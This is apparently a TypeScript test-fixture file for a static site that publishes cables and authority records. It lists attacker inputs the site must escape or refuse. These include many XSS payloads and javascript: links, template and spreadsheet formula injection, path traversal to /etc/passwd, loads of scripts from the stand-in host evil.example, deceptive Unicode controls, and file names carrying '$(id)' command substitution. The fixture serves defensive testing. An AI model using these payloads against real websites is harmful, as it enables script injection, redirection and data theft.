/**
 * What an attacker would put into content, in our own words. `run` in each sets a flag that the browser test looks for; nothing else happens.
 * How each must end (the documented outcome) depends on the entrance:
 *
 *   markup    raw HTML, template syntax, names of browser objects: shown as the characters they are, everywhere
 *   link      a Markdown link that would lead astray: refused by `check` in Markdown, characters in YAML
 *   hidden    characters that deceive the eye or end a line: refused everywhere
 */
export interface Payload { readonly name: string; readonly kind: 'markup' | 'link' | 'hidden'; readonly text: string }

const run = 'window.__hit=1';
const m = (name: string, text: string): Payload => ({ name, kind: 'markup', text });
const l = (name: string, text: string): Payload => ({ name, kind: 'link', text });
const h = (name: string, text: string): Payload => ({ name, kind: 'hidden', text });

export const payloads: readonly Payload[] = [
  m('a script', `<script>${run}</script>`),
  m('a script in odd case', `<ScRiPt >${run}</sCrIpT >`),
  m('a script that is never closed', `<script>${run}//`),
  m('a script from elsewhere', '<script src="https://evil.example/x.js"></script>'),
  m('an image with a handler', `<img src=x onerror="${run}">`),
  m('an image with slashes', `<img/src=x/onerror=${run}>`),
  m('a drawing with a handler', `<svg onload=${run}>`),
  m('a script in a drawing', `<svg><script>${run}</script></svg>`),
  m('an animation', `<svg><animate onbegin=${run} attributeName=x dur=1s>`),
  m('a frame with a page', `<iframe srcdoc="<script>parent.${run.slice(7)}</script>"></iframe>`),
  m('a frame with a script address', `<iframe src="javascript:parent.__hit=1"></iframe>`),
  m('an object', `<object data="javascript:${run}"></object>`),
  m('an embedded thing', `<embed src="javascript:${run}">`),
  m('a body', `<body onload=${run}>`),
  m('details that open', `<details open ontoggle=${run}>x</details>`),
  m('a field that takes the focus', `<input autofocus onfocus=${run}>`),
  m('a running line', `<marquee onstart=${run}>x</marquee>`),
  m('a video', `<video><source onerror=${run}></video>`),
  m('a link with a script', `<a href="javascript:${run}">x</a>`),
  m('a form that sends elsewhere', '<form action="https://evil.example/"><button>x</button></form>'),
  m('a button for the search form', '<button form="x" formaction="https://evil.example/">x</button>'),
  m('a base address', '<base href="https://evil.example/">'),
  m('a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
  m('a style', '<style>body{display:none}</style>'),
  m('a style attribute', '<p style="position:fixed;inset:0">x</p>'),
  m('a style sheet', '<link rel="stylesheet" href="https://evil.example/x.css">'),
  m('an end of the title', `</title><script>${run}</script>`),
  m('an end of a text field', `</textarea><script>${run}</script>`),
  m('an end of a script', `</script><script>${run}</script>`),
  m('an end of a comment', `--><script>${run}</script><!--`),
  m('an end of a data section', `]]><script>${run}</script>`),
  m('an end of an attribute', `"><img src=x onerror=${run}>`),
  m('an end of an attribute in single quotes', `' autofocus onfocus='${run}`),
  m('an attribute', `" onmouseover="${run}" x="`),
  m('a comment', '<!-- hidden -->'),
  m('a processing instruction', '<?xml version="1.0"?>'),
  m('a document type with an entity', '<!DOCTYPE x [<!ENTITY y "z">]>'),
  m('mathematics that hide markup', `<math><mtext><table><mglyph><style><img src=x onerror=${run}></style></mglyph></table></mtext></math>`),
  m('markup for browsers without scripts', `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`),
  m('a template', `<template><img src=x onerror=${run}></template>`),
  m('a name that hides an object of the page', '<a id="main" name="getElementById">x</a>'),
  m('a form named like a property', '<form id="documentElement"><input name="parentNode"></form>'),
  m('an id of a note', '<p id="note-one">x</p>'),
  m('template syntax', `{{constructor.constructor("${run}")()}}`),
  m('a template literal', `\${${run}}`),
  m('server tags', '<% x %> <?php y ?>'),
  m('a spreadsheet formula', '=HYPERLINK("https://evil.example/","x")'),
  m('a spreadsheet command', '@SUM(1)*cmd|x'),
  m('half a reference', '&lt;script&gt; &amp;lt;b&amp;gt; &#60;script&#62;'),
  m('a brace for bibliographies', '} , note = {x'),
  m('names of objects', '__proto__ constructor toString hasOwnProperty'),
  m('a closing of everything', '</p></div></article></main></body></html>'),
  m('line separators', `x\u2028${run}\u2029y`),
  m('letters that look alike', '\uFF1Cscript\uFF1E window'),
  m('a note label with markup', 'x[^"><b>]'),
  m('marks upon marks', `z${'\u0301'.repeat(60)}`),

  l('a script address', `[x](javascript:${run})`),
  l('a script address in odd case', `[x](JaVaScRiPt:${run})`),
  l('a script address in a reference', `[x](&#106;avascript:${run})`),
  l('a script address with a tab', `[x](java&Tab;script:${run})`),
  l('a script address with a line end', `[x](java&NewLine;script:${run})`),
  l('a script address in angle brackets', `[x](<javascript:${run}>)`),
  l('an automatic script link', `<javascript:${run}>`),
  l('a script definition', `[x][bad]\n\n[bad]: javascript:${run}`),
  l('a data address', '[x](data:text/html,<script>1</script>)'),
  l('a vbscript address', '[x](vbscript:x)'),
  l('a file address', '[x](file:///etc/passwd)'),
  l('a blob address', '[x](blob:https://evil.example/1)'),
  l('an address without scheme', '[x](//evil.example/)'),
  l('a backslash address', '[x](/\\evil.example/)'),
  l('a climbing path', '[x](/../../etc/passwd)'),
  l('a relative path', '[x](../../admin)'),
  l('a quote in an address', `[x](https://evil.example"onmouseover="${run})`),
  l('an image', '![x](https://evil.example/x.png)'),
  l('a script image', `![x](javascript:${run})`),
  l('a person with markup', '[x](person:"><img>)'),
  l('a person that climbs', '[x](person:../../x)'),
  l('a cable that climbs', '[x](cable:../../etc/passwd)'),
  l('a cable with a script for a paragraph', '[x](cable:03HARBOUR1#"onclick="x)'),
  l('a place that climbs', '[x](place:bv/../x)'),
  l('a country with markup', '[x](country:<b>)'),
  l('a term with markup', '[x](term:"><b>)'),
  l('a part that is none', '[x](part:script)'),
  l('a redaction with markup', '[x](redaction:"><b>)'),
  l('a cell that is none', '[x](cell:"><b>)'),
  l('a note label of an object', 'x[^constructor]'),

  h('an override', 'safe\u202Etxt.exe'),
  h('an embedding', 'safe\u202Btxt'),
  h('an isolate', 'safe\u2067txt\u2069'),
  h('a null', 'x\u0000y'),
  h('the mark of the site\'s root', 'x\u0001/persons/y'),
  h('a bell', 'x\u0007y'),
  h('a next line', 'x\u0085y'),
];

/** Characters written as escapes: in Markdown as references (of control characters the parser makes U+FFFD), in YAML with a backslash. */
export const escapedHidden: readonly { readonly name: string; readonly markdown?: string; readonly yaml: string }[] = [
  { name: 'an override', markdown: 'x&#x202E;y', yaml: '"x\\u202Ey"' }, { name: 'an isolate', markdown: 'x&#x2067;y', yaml: '"x\\u2067y"' },
  { name: 'the mark of the site\'s root', yaml: '"x\\u0001y"' }, { name: 'an escape', yaml: '"x\\ey"' }, { name: 'a pop', markdown: 'x&#8236;y', yaml: '"x\\u202Cy"' },
];

/** File names that may not become addresses, or reach outside. (Names that begin with `.` or `_` are no content.) */
export const hostileNames: readonly string[] = [
  'cables/a..b.md', 'cables/-x.md', 'cables/x y.md', 'cables/<img src=x>.md', 'cables/"onload=.md', "cables/'x.md", 'cables/x%2e%2e.md', 'cables/%00x.md', 'cables/x;y.md', 'cables/x&y.md',
  'cables/x\\y.md', 'cables/x\u202Ey.md', 'cables/برقية.md', 'cables/sub/X123.md', 'cables/CON .md', 'cables/x\ny.md', `cables/${'x'.repeat(120)}.md`, 'cables/ab.md', 'cables/x:y.md', 'cables/$(id).md', 'cables/`id`.md', 'cables/|x.md',
  'authorities/persons/<b>.yaml', 'authorities/persons/A-B.yaml', 'authorities/persons/x--y.yaml', 'authorities/posts/a b.yaml', 'authorities/organizations/é.yaml', 'authorities/countries/xyz.yaml', 'authorities/countries/<b.yaml',
  'pages/en/<script>.md', 'pages/en/A B.md',
];
